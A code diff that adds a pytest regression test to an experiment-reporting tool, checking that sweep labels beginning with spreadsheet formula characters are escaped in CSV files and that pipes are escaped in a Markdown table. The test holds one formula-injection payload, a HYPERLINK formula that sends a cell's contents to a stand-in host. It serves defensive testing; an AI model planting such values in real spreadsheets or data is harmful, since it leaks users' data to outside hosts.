@@ -980,6 +980,29 @@ def test_runs_of_one_label_from_an_older_version_do_not_mix_their_epochs(sweep, 
     assert len(_read_csv(out / "runs.csv")) == 2 and len(_read_csv(out / "epochs.csv")) == 0
 
 
+def test_a_received_label_that_a_spreadsheet_would_run_is_written_as_text(sweep, tmp_path):
+    """sec2 8: a label of a received sweep.json went verbatim into results.csv and runs.csv, where a spreadsheet
+    runs a cell starting with = + - @ (=HYPERLINK sends the sheet away), and into results.md, where a | broke the
+    table. Such text is written after a "'" (and read back without it: report after report it stays one)."""
+    out, _ = _copy(sweep, tmp_path)
+    label = '=HYPERLINK("http://x.example/?"&B2,"ste")|+1'
+    manifest = json.loads((out / "sweep.json").read_text())
+    (setting,) = [s for s in manifest["settings"] if s["label"] == "estimator=ste"]
+    setting["label"] = label
+    (out / "sweep.json").write_text(json.dumps(manifest))
+    for _ in range(3):
+        summarize(out, plots=False)
+    from reste.experiments import report
+
+    for name in ("results.csv", "runs.csv"):
+        cells = [row["setting"] for row in _read_csv(out / name)]
+        assert "'" + label in cells and label not in cells, (name, cells)
+    assert {r["setting"] for r in report._read_csv(out / "runs.csv")} == {label, "estimator=reste"}
+    md = [line for line in (out / "results.md").read_text().splitlines() if "HYPERLINK" in line]
+    assert len(md) == 1 and md[0].startswith("| =HYPERLINK(" + chr(34)) and "ste\")\\|+1 |" in md[0]
+    assert md[0].count(" | ") == (out / "results.md").read_text().splitlines()[4].count(" | ")
+
+
 def test_a_failed_run_fails_the_sweep_even_with_a_kept_row(sweep, tmp_path, capsys):
     out, argv = _copy(sweep, tmp_path)
     run = next((out / "runs").glob("ste-*/seed0"))
